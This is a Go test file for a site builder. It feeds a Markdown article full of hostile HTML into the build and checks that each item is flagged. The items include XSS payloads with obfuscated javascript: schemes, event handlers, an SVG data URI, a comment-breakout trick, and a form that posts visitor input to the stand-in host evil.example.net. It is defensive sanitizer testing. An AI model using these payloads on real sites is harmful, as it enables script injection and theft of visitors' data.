package build

import (
	"strings"
	"testing"
	"testing/fstest"
)

// pastedHostile is an article of what someone with write access to one
// Markdown file might try, one attempt a line or block.
const pastedHostile = `---
title: Pasted
description: What an attacker might paste.
---

Intro <script>alert(1)</script>

<iframe width="560" height="315" src="https://www.youtube.com/embed/dQw4w9WgXcQ" allowfullscreen></iframe>

<form action="https://evil.example.net/collect"><input name="email"></form>

<base href="https://evil.example.net/">

<link rel="stylesheet" href="https://evil.example.net/x.css">

<meta http-equiv="refresh" content="0;url=https://evil.example.net/">

<style>@import url(https://evil.example.net/x.css);</style>

<div ONMOUSEOVER="alert(1)">hover</div>

<a href="jav&#x61;script:alert(1)">link</a>

<a href="java&Tab;script:alert(1)">link</a>

<img alt="" src="data:image/svg+xml,<svg onload=alert(1)>">

<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>

<!-- x --!><img alt="" src="/images/social-card.png" onerror="alert(1)"> -->

<div title="

[x](https://evil.example.net/onmouseover=alert(1)//)
`

// pastedFine is what editors legitimately paste.
const pastedFine = `---
title: Pasted by an editor
description: Markup editors paste that the site publishes as written.
---

<details>
<summary>How long is a session?</summary>

CST practitioners describe a first session as lasting about an hour.

</details>

The <abbr title="craniosacral therapy">CST</abbr> register: press <kbd>Ctrl</kbd> and <kbd>F</kbd> to search it.<br>
Costs are 10<sup>2</sup> pence at most.

<figure>
<img src="/images/social-card.png" alt="The association's name on a green card" width="300">
<figcaption>The card shown when a page is shared.</figcaption>
</figure>
`

// TestRawHTMLInBundledSite builds the repository's site with raw HTML
// allowed and one article of each: each attempt is an error at its line
// and column, and what editors paste is published without a problem.
func TestRawHTMLInBundledSite(t *testing.T) {
	fsys := bundledFS(t)
	change(t, fsys, "content/site.yaml", "raw_html: false", "raw_html: true")
	fsys["content/articles/pasted.md"] = &fstest.MapFile{Data: []byte(pastedHostile)}
	fsys["content/articles/pasted-fine.md"] = &fstest.MapFile{Data: []byte(pastedFine)}
	res, _ := Run(Options{FS: fsys, DryRun: true, Strict: true, Now: fixedNow, NoMinify: true})
	got := problems(res)
	t.Logf("%s", got)
	for _, want := range []string{
		"content/articles/pasted.md:6:7: a <script> would run in the page",
		"content/articles/pasted.md:8:1: an <iframe> loads another page into this one, which would tell its site about every visitor and which the site's Content-Security-Policy blocks; link to it instead, such as [Watch the video](https://www.youtube.com/watch?v=dQw4w9WgXcQ)",
		`content/articles/pasted.md:10:7: action "https://evil.example.net/collect" sends what visitors type to another site`,
		"content/articles/pasted.md:12:1: a <base> would change where every link of the page leads",
		"content/articles/pasted.md:14:1: a <link> in a page loads a stylesheet",
		"content/articles/pasted.md:16:7: a meta refresh sends visitors on without asking",
		"content/articles/pasted.md:18:1: a <style> element would restyle the whole page",
		"content/articles/pasted.md:20:6: the onmouseover attribute would run a script",
		`content/articles/pasted.md:22:4: href "javascript:alert(1)" uses the javascript: scheme`,
		`content/articles/pasted.md:24:4: href "java\tscript:alert(1)"`,
		`content/articles/pasted.md:26:13: src "data:image/svg+xml,<svg onload=alert(1)>" uses the data: scheme`,
		`content/articles/pasted.md:28:9: xlink:href "javascript:alert(1)" uses the javascript: scheme`,
		"content/articles/pasted.md:30:54: the onerror attribute would run a script",
		"content/articles/pasted.md:32:1: the <div> tag is not closed where its HTML ends",
	} {
		if !strings.Contains(got, want) {
			t.Errorf("no %q", want)
		}
	}
	for line := range strings.SplitSeq(got, "\n") {
		if line != "" && !strings.HasPrefix(line, "content/articles/pasted.md:") && !strings.Contains(line, ": info: ") {
			t.Errorf("unexpected: %s", line)
		}
	}
}
